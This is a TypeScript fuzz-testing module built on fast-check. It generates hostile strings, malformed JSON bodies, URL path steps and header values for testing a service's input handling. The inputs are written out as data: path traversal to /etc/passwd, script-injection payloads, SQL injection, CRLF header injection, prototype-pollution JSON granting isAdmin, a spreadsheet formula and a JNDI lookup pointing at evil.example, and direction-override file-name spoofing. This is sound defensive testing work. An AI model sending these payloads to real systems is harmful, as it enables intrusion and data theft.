import fc from 'fast-check';

/** Texts that have broken something somewhere; each says why it is here. */
const texts: readonly string[] = [
  '',
  ' ',
  // Half a surrogate pair, either half, and both the wrong way round.
  '\ud800',
  'a\udfff',
  '\udc00\ud800',
  // NUL and other control characters.
  '\u0000',
  'a\u0000b',
  '\u001b[31mred\u001b[0m',
  'line\r\nx-injected: 1',
  '\n{"level":"ERROR","message":"forged"}',
  // Marks that turn the reading direction, and what can't be seen.
  '\u202egnp.exe',
  '\u2066\u2067\u2069\u2069',
  '\u200b\ufeff\u00ad',
  // The same letter, composed and decomposed; a letter with very many marks.
  'caf\u00e9',
  'cafe\u0301',
  `z${'\u0301'.repeat(500)}`,
  '\uff21\ufb01\u2460',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  // Keys, paths, expressions and markup of others.
  '../../etc/passwd',
  '..%2f..%2f',
  'a#0',
  '#shard-0',
  ':v = :v',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil.example")',
  ['$', '{jndi:ldap://evil.example}'].join(''),
  "' OR '1'='1",
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  '9007199254740993',
  '1e400',
  '-0',
  'x'.repeat(5_001),
];

export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...texts) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 60 }) },
);

/** JSON that `JSON.stringify` doesn't write. */
const rawJson: readonly string[] = [
  '',
  '{',
  'nul',
  '[1,]',
  '{"a":1,"a":2}',
  '{"answers":{"one":"a"},"answers":{"one":"b"}}',
  '{"__proto__":{"isAdmin":true},"answers":{}}',
  '{"answers":{"__proto__":"a"}}',
  '{"answers":{"rate":1e999}}',
  '{"answers":{"rate":-0}}',
  '{"answers":{"rate":12345678901234567890123}}',
  '{"answers":{"rate":1.0000000000000001}}',
  '{"answers":{"words":"\\ud800"}}',
  '{"answers":{"words":"\\u0000"}}',
  '\ufeff{"answers":{}}',
  '"\\ud83d"',
  'NaN',
  '{"answers":{"one":"a"}}{}',
  `${'['.repeat(31)}${']'.repeat(31)}`,
  `${'['.repeat(50_000)}`,
  `{"answers":${'{"a":'.repeat(40)}1${'}'.repeat(40)}}`,
  `{"title":"${'x'.repeat(70_000)}"}`,
  JSON.stringify({ answers: Object.fromEntries(Array.from({ length: 3_000 }, (_, at) => [`q${at}`, 'a'])) }),
];

const scalar = fc.oneof(
  fc.constantFrom<unknown>(null, true, false, 0, -1, 1.5, 1e21, Number.MAX_SAFE_INTEGER + 1, -1e-7, [], {}, [[]]),
  hostileText,
);

export const hostileJson: fc.Arbitrary<unknown> = fc.oneof(
  scalar,
  fc.array(scalar, { maxLength: 5 }),
  fc.dictionary(hostileText, scalar, { maxKeys: 4 }),
);

/**
 * Bodies made of one that is right: as it is, with one place of it exchanged, taken out or added, or none of it.
 * Some are no JSON at all.
 */
export function bodiesAround(right: unknown): fc.Arbitrary<string> {
  const written = JSON.stringify(right) ?? '';
  return fc.oneof(
    { weight: 3, arbitrary: fc.constant(written) },
    {
      weight: 6,
      arbitrary: fc
        .tuple(fc.nat(), fc.constantFrom('exchange', 'remove', 'add'), hostileJson, hostileText)
        .map(([at, how, value, key]) => JSON.stringify(changed(right, { at, how, value, key }))),
    },
    { weight: 1, arbitrary: hostileJson.map((value) => JSON.stringify(value)) },
    { weight: 1, arbitrary: fc.constantFrom(...rawJson) },
  );
}

/** A copy with a change at one of its places, counted in the order in which they are written. */
function changed(right: unknown, { at, how, value, key }: { at: number; how: string; value: unknown; key: string }) {
  const copy: unknown = structuredClone(right);
  const places: { holder: Record<string, unknown>; name: string }[] = [];
  const walk = (holder: unknown) => {
    if (typeof holder !== 'object' || holder === null) return;
    for (const name of Object.keys(holder)) {
      places.push({ holder: holder as Record<string, unknown>, name });
      walk((holder as Record<string, unknown>)[name]);
    }
  };
  walk(copy);
  const place = places[at % Math.max(1, places.length)];
  if (!place) return value;
  if (how === 'exchange') place.holder[place.name] = value;
  else if (how === 'remove') delete place.holder[place.name];
  else if (Array.isArray(place.holder)) place.holder.push(value);
  // `__proto__` as a field of its own, too.
  else Object.defineProperty(place.holder, key, { value, enumerable: true, configurable: true, writable: true });
  return copy;
}

/** A step of a path as it stands in an address: mostly encoded, sometimes as nobody should write it. */
export const hostileStep: fc.Arbitrary<string> = fc.oneof(
  hostileText.map((text) => encodeURIComponent(text.toWellFormed()) || '%20'),
  fc.constantFrom(
    '%',
    '%zz',
    '%00',
    '%ED%A0%80',
    '%C0%AF',
    '..',
    '.',
    '%2e%2e',
    'a;b',
    'a.css',
    'a%2Fb',
    'a%3Fb',
    '~',
    "'",
  ),
);

/** A value that HTTP lets through as a header. */
export const headerText: fc.Arbitrary<string> = hostileText.map((text) =>
  Buffer.from(text.replaceAll(/\p{Cc}/gu, '').slice(0, 6_000)).toString('latin1'),
);
